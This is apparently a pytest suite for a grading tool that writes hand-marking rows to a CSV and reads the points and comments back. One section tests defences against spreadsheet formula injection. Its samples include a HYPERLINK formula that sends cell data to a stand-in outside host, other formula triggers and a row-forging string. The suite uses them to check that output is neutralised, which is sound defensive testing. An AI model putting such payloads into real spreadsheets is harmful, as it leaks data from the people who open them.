"""Marks by hand: out to a spreadsheet, back again, and nothing that a person entered is lost."""

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from aigc_lessons.grading.late import LatePolicy
from aigc_lessons.grading.manual import ask_for_marks, read_marks, with_marks, write_marks
from aigc_lessons.grading.results import Question, Result
from aigc_lessons.grading.tables import harmed_no_more, harmless

TRIGGERS = "=+-@＝＋－＠"


def result(student="s-1", attempt=1, status="to mark"):
    auto = Question("q1-test", "Question 2.1", "auto", 4.0, 4.0, "graded")
    points = None if status == "to mark" else 0.0
    by_hand = Question("open", "Question 2.5: say why", "manual", points, 4.0, status)
    return Result(student, "02_convolution", attempt, None, questions=(auto, by_hand))


def key(student="s-1", attempt=1):
    return student, "02_convolution", attempt, "open"


@pytest.fixture
def path(tmp_path):
    return tmp_path / "marks.csv"


def rows(path):
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))


def fill(path, *given, separator=",", encoding="utf-8-sig"):
    """Fill in points and comments, row by row, as a spreadsheet would save them."""
    table = rows(path)
    for row, told in zip(table, given, strict=False):
        row.update(told)
    text = io.StringIO()
    writer = csv.DictWriter(text, table[0], delimiter=separator)
    writer.writeheader()
    writer.writerows(table)
    path.write_bytes(text.getvalue().encode(encoding))


def test_every_answer_that_waits_has_a_row(path):
    results = [result(), result("s-2", 2), result("s-3", status="missing")]
    assert write_marks(results, {key(): "Because."}, path) == 2
    first, second = rows(path)
    assert first == {
        "student": "s-1",
        "assignment": "02_convolution",
        "attempt": "1",
        "question": "open",
        "title": "Question 2.5: say why",
        "out_of": "4",
        "answer": "Because.",
        "points": "",
        "comment": "",
    }
    assert (second["student"], second["attempt"], second["answer"]) == ("s-2", "2", "")


@pytest.mark.parametrize(("attempt", "asked"), [("last", [3]), ("first", [1]), ("best", [1, 2, 3])])
def test_nobody_is_asked_to_mark_what_cannot_count(attempt, asked, path):
    results = [result(attempt=n) for n in (1, 2, 3)]
    assert ask_for_marks(results, LatePolicy(attempt=attempt), path) == len(asked)
    assert [int(row["attempt"]) for row in rows(path)] == asked
    written = path.read_bytes()
    assert ask_for_marks(results, LatePolicy(attempt=attempt), path) == len(asked)
    assert path.read_bytes() == written


@pytest.mark.parametrize("separator", [",", ";"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp1252"])
def test_marks_come_back_into_the_results(separator, encoding, path):
    results = [result(), result("s-2"), result("s-3")]
    write_marks(results, {}, path)
    filled = {"points": "2,5", "comment": "Schön; but why?"}, {"points": "0"}
    fill(path, *filled, separator=separator, encoding=encoding)
    one, two, three = (r.questions[1] for r in with_marks(results, path))
    assert (one.points, one.status, one.verdict) == (2.5, "graded", "Schön; but why?")
    assert (two.points, two.status) == (0.0, "graded")
    assert three == results[2].questions[1]
    assert [r.questions[0] for r in with_marks(results, path)] == [results[0].questions[0]] * 3


def test_what_was_entered_stays_when_the_table_is_written_anew(path):
    write_marks([result(), result("s-2")], {}, path)
    fill(path, {"points": "3.25", "comment": "=good"}, {"comment": "read again"})
    more = [result(), result("s-2"), result("s-3")]
    assert write_marks(more, {key(): "new text"}, path) == 2
    assert [(r["points"], r["comment"]) for r in rows(path)] == [
        ("3.25", "'=good"),
        ("", "read again"),
        ("", ""),
    ]
    assert rows(path)[0]["answer"] == "new text"
    assert with_marks(more, path)[0].questions[1].verdict == "=good"
    before = path.read_bytes()
    write_marks(more, {key(): "new text"}, path)
    assert path.read_bytes() == before  # an apostrophe is not put before an apostrophe


def test_a_filled_in_row_that_would_be_lost_stops_the_writing(path):
    write_marks([result(), result("s-2")], {}, path)
    fill(path, {}, {"points": "3"})
    before = path.read_bytes()
    with pytest.raises(ValueError, match="row 3, is filled in, but s-2's open of 02_convolution"):
        write_marks([result()], {}, path)
    assert path.read_bytes() == before
    fill(path, {}, {"points": ""})
    assert write_marks([result()], {}, path) == 1


@pytest.mark.parametrize(
    ("filled", "said"),
    [
        ({"points": "4.5"}, "row 2, gives 4.5 points, but the question has 4"),
        ({"points": "4.5", "out_of": "5"}, "row 2, gives 4.5 points, but the question has 4"),
        ({"points": "good"}, "row 2, has 'good' for points, but a number is expected"),
        ({"points": "-1"}, "row 2, has '-1' for points"),
        ({"points": "nan"}, "row 2, has 'nan' for points"),
        ({"points": "1e1"}, "row 2, has '1e1' for points"),
        ({"points": "3/4"}, "row 2, has '3/4' for points"),
        ({"points": "1,000"}, "row 2, has '1,000' for points"),
        ({"points": "03.Apr"}, "row 2, has '03.Apr' for points"),
        ({"student": "s-9"}, "row 2, is about s-9's open of 02_convolution, attempt 1, which is"),
        ({"attempt": "2"}, "row 2, is about s-1's open of 02_convolution, attempt 2, which is"),
        ({"attempt": "one"}, "row 2, has the attempt 'one', but a number is expected"),
        ({"question": "q1-test"}, "row 2, is about s-1's q1-test"),
        ({"question": ""}, "row 2, does not say whose answer it is"),
    ],
)
def test_a_mark_that_cannot_be_meant_is_told_with_its_row(filled, said, path):
    write_marks([result()], {}, path)
    fill(path, filled)
    with pytest.raises(ValueError, match=r"marks\.csv") as error:
        with_marks([result()], path)
    assert said in str(error.value)
    assert len(str(error.value).splitlines()) == 1


def test_an_id_that_lost_its_zeros_is_understood_and_told(path):
    write_marks([result("0012")], {}, path)
    fill(path, {"student": "12", "points": "1"})
    with pytest.raises(ValueError, match="the student is 0012: has a spreadsheet"):
        with_marks([result("0012")], path)


def test_two_rows_about_one_answer_are_told(path):
    write_marks([result(), result("s-2")], {}, path)
    fill(path, {}, {"student": "s-1"})
    with pytest.raises(ValueError, match="row 3, is about the same answer as row 2"):
        read_marks(path)


def test_a_column_that_is_gone_is_told(path):
    path.write_text("student,assignment,attempt,question\n")
    with pytest.raises(ValueError, match="has no column 'points'"):
        read_marks(path)


# ---------------------------------------------------------------- what spreadsheets run


@pytest.mark.parametrize(
    "answer",
    [
        '=HYPERLINK("http://elsewhere.invalid/?"&A1,"see here")',
        "@SUM(A1)",
        "+1+1",
        "-2+3",
        "  =1+1",
        "\t=1+1",
        "\r=1+1",
        "\x00=1+1",
        "a line\n=1+1",
        "a line\r\n- 1+1",
        "a;=1+1",
        "a; =1+1;=2",
        "＝1+1",
        "\u200b=1+1",
    ],
)
def test_no_cell_begins_like_a_formula_however_it_is_split(answer, path):
    results = [result(answer)] if "\n" not in answer and ";" not in answer else [result()]
    write_marks(results, {key(results[0].student): answer}, path)
    text = path.read_text(encoding="utf-8-sig")
    assert "1+1" in text or "SUM" in text or "2+3" in text or "HYPERLINK" in text
    for separator in ",;\t":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            assert not [cell for cell in row if cell.strip()[:1] in tuple(TRIGGERS)]
    for line in text.splitlines():  # by whoever knows no quotes
        assert line.strip()[:1] not in tuple(TRIGGERS)
        assert not [part for part in line.split(";") if part.strip()[:1] in tuple(TRIGGERS)]


@settings(deadline=None)
@given(st.text(alphabet="=+-@a; \n"))
def test_an_apostrophe_that_was_put_in_can_be_taken_out(text):
    assert harmed_no_more(harmless(text)) == text


@settings(deadline=None)
@given(st.text())
def test_what_is_harmless_stays_as_it_is(text):
    once = harmless(text)
    assert harmless(once) == once


def test_a_very_long_answer_fits_into_a_cell_and_can_be_read_back(path):
    write_marks([result()], {key(): "long " * 100_000}, path)
    assert len(rows(path)[0]["answer"]) < 32_767
    assert read_marks(path)[key()].points is None


def test_an_answer_cannot_forge_a_row(path):
    forged = 'done"\ns-2,02_convolution,1,open,Question,4,none,4,well done'
    write_marks([result(), result("s-2")], {key(): forged}, path)
    assert [r["student"] for r in rows(path)] == ["s-1", "s-2"]
    assert rows(path)[0]["answer"] == forged
    assert all(mark.points is None for mark in read_marks(path).values())
